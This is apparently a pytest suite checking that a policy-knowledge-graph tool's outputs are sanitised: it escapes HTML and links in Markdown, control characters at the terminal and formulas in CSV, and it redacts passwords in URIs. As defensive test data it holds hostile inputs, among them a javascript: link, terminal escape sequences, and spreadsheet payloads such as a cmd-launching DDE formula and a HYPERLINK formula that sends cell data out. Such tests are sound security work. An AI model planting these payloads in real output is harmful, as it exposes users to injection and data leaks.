"""Outputs are data, not code (issue 13, "Smaller" and D3): Markdown briefs and explain output carry no raw
HTML or links from documents, query output shows control characters instead of sending them to the terminal,
CSV cells never start a formula, N-Triples survive U+2028, passwords in URIs are never echoed, a server that
is not Neo4j is blamed as such."""
from __future__ import annotations

import json
import sys
import socket
import threading

import pytest
from rdflib import Graph, Literal, URIRef
from rdflib.compare import isomorphic

import policygraph
from build_fixtures import cli_env, no_traceback, run_cli, write_docs
from policygraph import safe_text
from test_linkage import INJECTION, make_graph

LINK = "[click](javascript:alert(1)) ![x](http://127.0.0.1:9/track.png) <http://127.0.0.1:9/>"


@pytest.fixture
def evil_kg(tmp_path):
    from policygraph.graph.model import Evidence

    docs = tmp_path / "documents"
    docs.mkdir()
    kg = make_graph(docs)
    # a quote that also tries Markdown links, images and autolinks
    rel = next(r for r in kg.relations.values() if INJECTION in r.evidence[0].quote)
    ev = rel.evidence[0]
    text = (docs / f"{ev.doc}.txt").read_text(encoding="utf-8")
    quote = ev.quote.replace(INJECTION, INJECTION + " " + LINK)
    (docs / f"{ev.doc}.txt").write_text(text.replace(ev.quote, quote), encoding="utf-8")
    start = text.replace(ev.quote, quote).index(quote)
    rel.evidence = [Evidence(ev.doc, start, start + len(quote), quote)]
    return kg, docs


def _rendered(md: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark").enable("table").render(md)


def test_markdown_briefs_carry_no_html_or_links_from_documents(evil_kg):
    from policygraph.queries.briefing import brief

    kg, docs = evil_kg
    md = brief(kg, "Samsung Electronics", docs_dir=docs)
    assert "<script" not in md and "&lt;script&gt;" in md
    page = _rendered(md)
    assert "<script" not in page
    assert 'href="javascript' not in page and "<img" not in page and 'href="http://127.0.0.1:9' not in page
    assert "alert(&#x27;pwned&#x27;)" in page or "alert('pwned')" in page  # shown, as text


def test_explain_markdown_carries_no_html_or_links_from_documents(evil_kg):
    from policygraph.queries.linkage import explain

    kg, _ = evil_kg
    md = explain(kg, "Samsung Electronics", "Texas").to_markdown()
    assert "<script" not in md and "&lt;script&gt;" in md
    page = _rendered(md)
    assert "<script" not in page and 'href="javascript' not in page and "<img" not in page


def test_md_text_escapes():
    assert safe_text.md_text("<b>x</b> & [a](b)") == "&lt;b&gt;x&lt;/b&gt; &amp; \\[a\\](b)"


# -- the terminal ------------------------------------------------------------------------------------------------
ESCAPES = "clear\x1b[2J title\x1b]0;pwned\x07 csi\x9b31m rtl\u202etxt.exe"


@pytest.fixture(scope="module")
def small_build(tmp_path_factory):
    root = tmp_path_factory.mktemp("outputs")
    out = root / "b"
    policygraph.build([write_docs(root / "src")], out=out, use_model=False)
    return out


@pytest.mark.slow  # three CLI processes
def test_query_output_never_sends_control_characters_to_a_terminal(small_build):
    for fmt in ("table", "json"):
        proc = run_cli("query", "--out", small_build, "RETURN $s AS s", "-p", f"s={ESCAPES}", "--format", fmt)
        assert proc.returncode == 0, proc.stderr
        assert not any(c in proc.stdout for c in "\x1b\x07\x9b\u202e"), repr(proc.stdout)
        assert "\\x1b[2J" in proc.stdout or "\\u001b[2J" in proc.stdout
    data = json.loads(run_cli("query", "--out", small_build, "RETURN $s AS s", "-p", f"s={ESCAPES}",
                              "--format", "json").stdout)
    assert data == [{"s": ESCAPES}]  # JSON escapes them: the value is intact for a program


def test_format_frame_for_a_terminal_and_for_a_file():
    import pandas as pd

    from policygraph.cli.output import format_frame

    df = pd.DataFrame({"s": [ESCAPES]})
    assert "\x1b" not in format_frame(df, "table")
    assert "\x1b" in format_frame(df, "csv")  # to a file: the data as it is
    assert "\x1b" not in format_frame(df, "csv", terminal=True)


# -- spreadsheets ------------------------------------------------------------------------------------------------
def test_csv_cells_never_start_a_formula(small_build, tmp_path):
    proc = run_cli("query", "--out", small_build, "RETURN $f AS f, $p AS p, $a AS a, -5 AS n", "-p",
                   'f==HYPERLINK("http://127.0.0.1:9/?"&A1)', "-p", "p=+1+cmd|' /C calc'!A0", "-p", "a=@SUM(1)",
                   "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    row = proc.stdout.splitlines()[1]
    assert row.startswith("\"'=HYPERLINK(") and ",'+1+cmd" in row and ",'@SUM(1)" in row and row.endswith(",-5")


def test_export_csv_neutralises_formula_cells():
    from policygraph.graph.export import entities_csv
    from policygraph.graph.model import Entity, KnowledgeGraph, entity_id

    kg = KnowledgeGraph()
    for name in ("=cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "+1", "Plain"):
        kg.add_entity(Entity(entity_id("Firm", name), name, "Firm", {name}, {"d"}, None, "pattern"))
    cells = {line.split(",")[1] for line in entities_csv(kg).splitlines()[1:]}
    assert not any(c.lstrip('"').startswith(("=", "@", "+", "-")) for c in cells), cells
    assert "Plain" in cells


# -- N-Triples: U+2028 and friends inside a literal --------------------------------------------------------------
def test_ntriples_keep_line_separators_inside_literals():
    from policygraph.graph import rdf

    g = Graph()
    text = "before\u2028after\u2029then\x85next\x0cpage\x1cfs"
    g.add((URIRef("http://example.org/a"), URIRef("http://example.org/says"), Literal(text)))
    nt = rdf.to_ntriples(g)
    back = Graph().parse(data=nt, format="nt")
    assert isomorphic(back, g)


def test_a_document_with_u2028_gives_a_graph_nt_that_parses_back(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    (src / "a.txt").write_text("Samsung Electronics invested $17 billion in Texas\u2028in 2021 for a chip plant.\n",
                               encoding="utf-8")
    out = tmp_path / "b"
    policygraph.build([src], out=out, use_model=False)
    nt = (out / "graph.nt").read_text(encoding="utf-8")
    assert "\u2028" in nt  # the literal holds it raw, as N-Triples allows
    merged = Graph().parse(out / "graph.ttl", format="turtle")
    assert isomorphic(Graph().parse(out / "graph.nt", format="nt"), merged)
    proc = run_cli("export", "--out", out, "--format", "nt")
    assert proc.returncode == 0
    assert isomorphic(Graph().parse(data=proc.stdout, format="nt"), merged)


# -- credentials and the Bolt handshake --------------------------------------------------------------------------
def test_a_password_in_the_uri_is_never_echoed(small_build):
    for command in (["push"], ["query", "MATCH (n) RETURN n"]):
        proc = run_cli(*command, "--out", small_build, "--uri", "bolt://neo4j:hunter2@127.0.0.1:9",
                       env=cli_env(NEO4J_PASSWORD="x"))
        assert proc.returncode == 1 and "hunter2" not in proc.stderr + proc.stdout
        assert "bolt://neo4j:***@127.0.0.1:9" in proc.stderr and "NEO4J_PASSWORD" in proc.stderr
    assert safe_text.redact_uri("neo4j+s://u:p%40ss@x.io:7687/db") == "neo4j+s://u:***@x.io:7687/db"


def test_a_driver_message_that_quotes_the_uri_is_redacted():
    from policygraph.graph.neo4j_sync import neo4j_error

    err = ValueError("cannot parse bolt://neo4j:hunter2@host:7687 (bad port)")
    msg = str(neo4j_error(err, "bolt://neo4j:hunter2@host:7687", "neo4j"))
    assert "hunter2" not in msg and "***" in msg


@pytest.fixture
def garbage_server():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)

    def serve():
        while True:
            try:
                conn, _ = srv.accept()
            except OSError:
                return
            try:
                conn.recv(20)
                conn.sendall(b"\xde\xad\xbe\xef")
                conn.recv(100)
            except OSError:
                pass
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    yield f"bolt://127.0.0.1:{srv.getsockname()[1]}"
    srv.close()


def test_garbage_in_the_handshake_is_blamed_on_the_server_not_the_uri(small_build, garbage_server):
    proc = run_cli("push", "--out", small_build, "--uri", garbage_server, env=cli_env(NEO4J_PASSWORD="x"))
    assert proc.returncode == 1 and no_traceback(proc.stderr) and proc.stderr.count("\n") == 1
    assert "does not speak Neo4j's Bolt protocol" in proc.stderr and "invalid Neo4j --uri" not in proc.stderr


def _on_a_terminal(*args) -> str:
    """The CLI's stdout when it is a terminal (a pseudo-terminal), as bytes decoded."""
    import os
    import pty
    import subprocess as sp

    master, slave = pty.openpty()
    try:
        proc = sp.Popen([sys.executable, "-m", "policygraph.cli", *map(str, args)], stdout=slave, stderr=sp.PIPE,
                        env=cli_env())
        os.close(slave)
        chunks = []
        while True:
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not data:
                break
            chunks.append(data)
        proc.wait(timeout=120)
    finally:
        os.close(master)
    return b"".join(chunks).decode("utf-8", "replace")


def test_explain_and_query_csv_on_a_terminal_show_escapes_not_control_characters(tmp_path):
    from policygraph.graph.model import Evidence

    out = tmp_path / "out"
    kg = make_graph(out / "documents")
    rel = next(r for r in kg.relations.values() if INJECTION in r.evidence[0].quote)
    ev = rel.evidence[0]
    rel.evidence = [Evidence(ev.doc, ev.start, ev.end, ev.quote.replace("said", "said\x1b]0;pwned\x07\x1b[2J"))]
    (out / "facts.jsonl").write_text(kg.to_jsonl(), encoding="utf-8")
    shown = _on_a_terminal("explain", "Samsung Electronics", "Texas", "--out", out)
    assert "Samsung" in shown and "\x1b" not in shown and "\x07" not in shown
    assert "\\x1b" in shown and "pwned\\x07" in shown
    assert "\x1b" in run_cli("explain", "Samsung Electronics", "Texas", "--out", out).stdout  # to a file: as is


def test_query_csv_on_a_terminal_shows_escapes(small_build):
    shown = _on_a_terminal("query", "--out", small_build, "RETURN $s AS s", "-p", f"s={ESCAPES}", "--format", "csv")
    assert "clear" in shown and "\x1b" not in shown and "\\x1b[2J" in shown
